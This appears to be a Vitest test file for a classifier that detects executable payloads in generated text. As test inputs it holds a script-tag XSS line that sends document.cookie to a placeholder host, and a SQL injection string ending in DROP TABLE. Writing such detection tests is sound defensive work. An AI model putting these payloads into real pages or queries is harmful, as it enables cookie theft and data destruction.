import { describe, expect, it } from 'vitest';
import { insecureOutputClassifier } from './insecure-output-classifier.js';

const classifier = insecureOutputClassifier.create({ id: 'insecure-output' }, {});

describe('insecure-output classifier', () => {
  it('finds an unescaped script tag and quotes it from where it starts', () => {
    const detection = classifier.classify('<h1>Welcome!</h1>\n<script>fetch("https://x.invalid/c?"+document.cookie)</script>');
    expect(detection).toMatchObject({ label: 'executable-payload', flagged: true });
    expect(detection.payloads[0]).toMatchObject({ name: 'script tag' });
    expect(detection.evidence[0]).toMatch(/^<script>fetch/);
  });

  it('names every kind of payload it finds', () => {
    const detection = classifier.classify("name = '' OR '1'='1'; DROP TABLE accounts; --");
    expect(detection.payloads.map((p) => p.name)).toEqual(['SQL tautology', 'SQL statement chain']);
  });

  it.each([
    ['HTML-escaped script', 'I added it as text: &lt;script&gt;alert(1)&lt;/script&gt;'],
    ['a parameterised query', 'SELECT id FROM accounts WHERE opened_at >= $1 ORDER BY opened_at;'],
    ['a plain shell command', 'tar czf statements-2024-05.tgz ~/statements/2024-05'],
  ])('does not flag %s', (_, text) => {
    expect(classifier.classify(text)).toEqual({ label: 'no-payload', flagged: false, evidence: [], payloads: [] });
  });
});
